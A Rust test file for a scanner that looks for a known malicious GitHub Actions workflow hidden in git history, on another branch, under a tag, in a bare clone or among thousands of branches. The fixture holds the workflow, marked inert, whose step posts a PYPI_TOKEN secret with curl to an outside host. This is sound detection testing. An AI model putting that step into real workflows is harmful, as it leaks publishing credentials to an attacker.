//! Repositories that git itself made: objects loose and packed, deltas by offset and by id, thousands of branches and tags,
//! work trees, clones of part of it. A workflow that nobody checked out is found, and said with the branch that holds it.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::stage::{Swept, done, folder, line, shown, sweep, tool, write};

/// The campaign's workflow, inert.
const WORKFLOW: &str = "name: Github Actions Security
on: [workflow_dispatch, push]
jobs:
  send-secrets:
    steps:
      - run: echo curl -d '${{ secrets.PYPI_TOKEN }}' https://bold-dhawan.45-139-104-115.plesk.page
";

fn git(repository: &Path) -> Command {
    let mut command = tool("git", repository);
    let who = [("GIT_AUTHOR_NAME", "Mia"), ("GIT_AUTHOR_EMAIL", "mia@example.org")];
    command.envs(who).envs([("GIT_COMMITTER_NAME", "Mia"), ("GIT_COMMITTER_EMAIL", "mia@example.org")]);
    command.args(["-c", "gc.auto=0", "-c", "protocol.file.allow=always"]);
    command
}

fn run(repository: &Path, args: &[&str]) {
    done(git(repository).args(args));
}

/// A long workflow, of which each version differs in a line: git keeps most of them as deltas.
fn honest(version: usize) -> String {
    let jobs: String = (0..200).map(|job| format!("  job-{job}:\n    runs-on: ubuntu-{}\n", job * 7919)).collect();
    format!("name: Tests {version}\njobs:\n{jobs}  last-{version}:\n")
}

fn commit(repository: &Path, name: &str, content: &str, subject: &str) {
    write(&repository.join(".github/workflows").join(name), content);
    run(repository, &["add", "-A"]);
    run(repository, &["commit", "-q", "-m", subject]);
}

/// Thirty commits, of which the campaign's lies on a branch and was deleted on it again; the branch before is a tag.
fn planted(home: &Path) -> PathBuf {
    let repository = home.join("repository");
    std::fs::create_dir_all(&repository).unwrap();
    run(&repository, &["init", "-q", "-b", "main"]);
    (0..15).for_each(|version| commit(&repository, "tests.yml", &honest(version), "Test more"));
    run(&repository, &["checkout", "-q", "-b", "topic"]);
    commit(&repository, "github_actions_security.yml", WORKFLOW, "Add Github Actions Security workflow");
    (15..30).for_each(|version| commit(&repository, "tests.yml", &honest(version), "Test more"));
    run(&repository, &["checkout", "-q", "main"]);
    repository
}

fn found<'s>(swept: &'s Swept, path: &Path) -> Vec<&'s Value> {
    let rows = swept.rows("findings").iter();
    rows.filter(|row| row["rule"] == "file-known-bad" && row["subject"]["path"] == shown(path)).collect()
}

/// One finding, which names the branch.
fn is_told(home: &Path, folder: &Path, reference: &str) {
    let swept = sweep([home]);
    let found = found(&swept, folder);
    let name = format!("github_actions_security.yml at {reference}");
    assert_eq!(found.iter().map(|row| &row["subject"]["name"]).collect::<Vec<_>>(), [&name], "{:?}", swept.gaps());
    assert_eq!(swept.verdict(), ("suspicious", "complete", 4), "{:?}", swept.gaps());
}

#[test]
fn a_workflow_on_another_branch_is_found_loose_and_packed() {
    let (_keep, home) = folder();
    let repository = planted(&home);
    is_told(&home, &repository.join(".git"), "heads/topic");
    run(&repository, &["pack-refs", "--all"]);
    run(&repository, &["repack", "-q", "-a", "-d", "-f", "--depth=50", "--window=50"]);
    is_told(&home, &repository.join(".git"), "heads/topic");
    // Bases by id instead of by place.
    run(&repository, &["-c", "repack.useDeltaBaseOffset=false", "repack", "-q", "-a", "-d", "-f", "--depth=50"]);
    is_told(&home, &repository.join(".git"), "heads/topic");
}

#[test]
fn a_tag_and_a_clone_hold_it_too() {
    let (_keep, home) = folder();
    let repository = planted(&home);
    run(&repository, &["tag", "-a", "v1", "-m", "one", "topic"]);
    run(&repository, &["branch", "-q", "-D", "topic"]);
    is_told(&repository, &repository.join(".git"), "tags/v1");
    let clone = home.join("clones/bare.git");
    std::fs::create_dir_all(home.join("clones")).unwrap();
    run(&home.join("clones"), &["clone", "-q", "--bare", shown(&repository), shown(&clone)]);
    is_told(&home.join("clones"), &clone, "tags/v1");
}

#[test]
fn thousands_of_branches_take_no_time() {
    let (_keep, home) = folder();
    let repository = planted(&home);
    let commits: Vec<String> = line(git(&repository).args(["rev-list", "--all"])).lines().map(str::to_owned).collect();
    let wanted: String =
        (0..3000).map(|at| format!("create refs/heads/many/{at} {}\n", commits[at % commits.len()])).collect();
    let list = home.join("list");
    write(&list, wanted);
    let mut update = git(&repository);
    done(update.args(["update-ref", "--stdin"]).stdin(std::fs::File::open(&list).unwrap()));
    let swept = sweep([&home]);
    assert_eq!(found(&swept, &repository.join(".git")).len(), 1);
    assert_eq!(swept.verdict(), ("suspicious", "complete", 4), "{:?}", swept.gaps());
}

#[test]
fn a_repository_whose_objects_lie_elsewhere_is_a_gap() {
    let (_keep, home) = folder();
    let repository = planted(&home);
    let shared = home.join("shared/app");
    std::fs::create_dir_all(home.join("shared")).unwrap();
    run(&home.join("shared"), &["clone", "-q", "--shared", shown(&repository), shown(&shared)]);
    let swept = sweep([home.join("shared")]);
    assert_eq!(swept.verdict().1, "incomplete", "{:?}", swept.gaps());
    assert!(swept.gaps().iter().any(|gap| gap["check"] == "git-repositories" && gap["material"] == true));
}
